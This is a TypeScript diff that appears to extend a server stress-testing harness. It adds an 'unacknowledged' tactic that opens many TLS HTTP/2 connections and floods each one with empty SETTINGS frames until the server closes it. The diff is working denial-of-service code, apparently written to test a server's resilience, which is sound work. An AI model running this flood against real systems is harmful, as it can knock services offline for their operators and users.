@@ -123,6 +123,33 @@ const heldSessions: Tactic = {
     }),
 }
 
+/** What a client begins HTTP/2 with (RFC 9113 section 3.4): its preface, and empty SETTINGS. */
+const begun = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
+const settings = '\0\0\0\x04\0\0\0\0\0'
+
+const unacknowledged: Tactic = {
+  name: 'HTTP/2 sessions flooded with SETTINGS, again and again',
+  attack: ({ securePort }, count, signal) =>
+    atRate({ perSecond: 100, atOnce: 16 }, signal, async () => {
+      const socket = connectTls({
+        host,
+        port: securePort,
+        rejectUnauthorized: false,
+        ALPNProtocols: ['h2'],
+      })
+      socket.on('error', () => undefined).resume()
+      socket.once('close', () => count('closed'))
+      const { promise, resolve } = Promise.withResolvers<void>()
+      socket.once('close', () => resolve())
+      socket.write(begun)
+      const more = (): void => {
+        if (!socket.destroyed) socket.write(settings.repeat(400), () => setImmediate(more))
+      }
+      socket.once('secureConnect', more)
+      await promise
+    }),
+}
+
 /** Three quarters of what a listener takes. */
 const heldAtOnce = 3_000
 
@@ -180,6 +207,7 @@ export const tactics: readonly Tactic[] = [
   longBlanks,
   scrapes,
   heldSessions,
+  unacknowledged,
   heldConnections,
   bogusTokens,
   cacheFilling,
